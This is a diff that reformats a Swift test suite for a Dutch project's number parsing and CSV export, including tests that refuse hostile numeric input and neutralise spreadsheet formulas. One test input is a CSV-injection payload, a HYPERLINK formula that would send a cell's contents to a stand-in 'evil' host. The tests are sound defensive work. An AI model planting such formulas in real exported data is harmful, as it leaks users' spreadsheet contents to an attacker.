@@ -1,4 +1,5 @@
 import Testing
+
 @testable import VitaalDomain
 
 @Suite struct BoundedNumberTests {
@@ -23,8 +24,10 @@ import Testing
     }
 
     @Test func rangeMessageNamesTheLimits() {
-        do { _ = try BoundedNumber.int("100001", field: "pagina", in: 1...100_000); Issue.record("accepted") }
-        catch { #expect(error.message == "veld \"pagina\": moet tussen 1 en 100.000 liggen") }
+        do {
+            _ = try BoundedNumber.int("100001", field: "pagina", in: 1...100_000)
+            Issue.record("accepted")
+        } catch { #expect(error.message == "veld \"pagina\": moet tussen 1 en 100.000 liggen") }
     }
 
     @Test func decimalsAcceptPointAndComma() throws {
@@ -33,7 +36,10 @@ import Testing
         #expect(try BoundedNumber.decimal("-0", field: "f", in: -1...1)?.sign == .plus)
     }
 
-    @Test(arguments: ["1e19", "1e308", "NaN", "nan", "inf", "-Infinity", "1,2,3", "1.2.3", ".", "abc", String(repeating: "9", count: 10_000)])
+    @Test(arguments: [
+        "1e19", "1e308", "NaN", "nan", "inf", "-Infinity", "1,2,3", "1.2.3", ".", "abc",
+        String(repeating: "9", count: 10_000)
+    ])
     func hostileDecimalsAreRefused(_ text: String) {
         do {
             _ = try BoundedNumber.decimal(text, field: "ritten", in: 0...10_000_000)
@@ -56,8 +62,14 @@ import Testing
 
     @Test func csvCellsThatSpreadsheetsRunAsFormulasAreNeutralised() {
         var w = CSVWriter(separator: .semicolon)
-        w.append(["=HYPERLINK(\"https://evil/?\"&A1;\"bron\")", "+cmd", "-2+3", "@SUM(A1)", "\tx", "-1,5", "-1.069", "+3", "gewoon", "-"])
-        #expect(w.text == "\"'=HYPERLINK(\"\"https://evil/?\"\"&A1;\"\"bron\"\")\";'+cmd;'-2+3;'@SUM(A1);'\tx;-1,5;-1.069;+3;gewoon;'-\r\n")
+        w.append([
+            "=HYPERLINK(\"https://evil/?\"&A1;\"bron\")", "+cmd", "-2+3", "@SUM(A1)", "\tx", "-1,5", "-1.069", "+3",
+            "gewoon", "-"
+        ])
+        #expect(
+            w.text
+                == "\"'=HYPERLINK(\"\"https://evil/?\"\"&A1;\"\"bron\"\")\";'+cmd;'-2+3;'@SUM(A1);'\tx;-1,5;-1.069;+3;gewoon;'-\r\n"
+        )
         var raw = CSVWriter(separator: .comma, lineEnding: "\n", neutraliseFormulas: false)
         raw.append(["+31 320 123456", "=x"])
         #expect(raw.text == "+31 320 123456,=x\n")
